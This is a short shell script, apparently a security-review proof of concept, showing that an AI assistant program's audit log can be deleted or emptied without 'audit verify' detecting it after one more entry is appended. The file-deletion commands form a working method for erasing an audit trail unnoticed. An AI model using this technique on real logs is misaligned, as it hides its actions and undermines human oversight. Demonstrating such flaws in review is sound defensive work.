#!/bin/sh
# Attack 3: delete (or empty) the keyed audit log and its head, let the program append one
# more line, and `audit verify` says intact: the deletion is hidden.
# Run from the worktree: sh docs/reviews/issue23/a3_audit_delete.sh
set -u
PY=/work/main/.venv/bin/python; export PYTHONPATH=$PWD ASSISTANT_VAULT_PASSPHRASE=pass1234
T=$(mktemp -d); W=$T/ws
$PY -m assistant init $W >/dev/null
sed -i 's/^opslimit = 3/opslimit = 1/; s/^memlimit_mib = 256/memlimit_mib = 8/' $W/config.toml
$PY -m assistant -w $W vault init >/dev/null
echo 'sk-Q7mZpX4vL2nR9tB6wY3c' | $PY -m assistant -w $W vault set apikey >/dev/null
cat > $T/s.json <<'J'
[{"tool": "memory_write", "args": {"path": "a.md", "content": "hello\n"}}, {"reply": "ok"}]
J
cd $T
printf 'write it\n/quit\n' | $PY -m assistant -w $W chat --model script:s.json >/dev/null 2>&1
echo "--- before: $(wc -l < $W/state/audit.jsonl) lines"; $PY -m assistant -w $W audit verify
rm $W/state/audit.jsonl $W/state/audit.head
echo "--- deleted both:"; $PY -m assistant -w $W audit verify
$PY -m assistant -w $W approvals ack >/dev/null 2>&1
printf 'hi\n/quit\n' | $PY -m assistant -w $W chat --model script:s.json >/dev/null 2>&1
echo "--- after one more use of the program: $(wc -l < $W/state/audit.jsonl) lines"; $PY -m assistant -w $W audit verify; echo "exit $?"
: > $W/state/audit.jsonl
echo "--- emptied the log (head kept):"; $PY -m assistant -w $W audit verify
$PY -m assistant -w $W approvals ack >/dev/null 2>&1
echo "--- after one more append:"; $PY -m assistant -w $W audit verify; echo "exit $?"
rm -rf $T
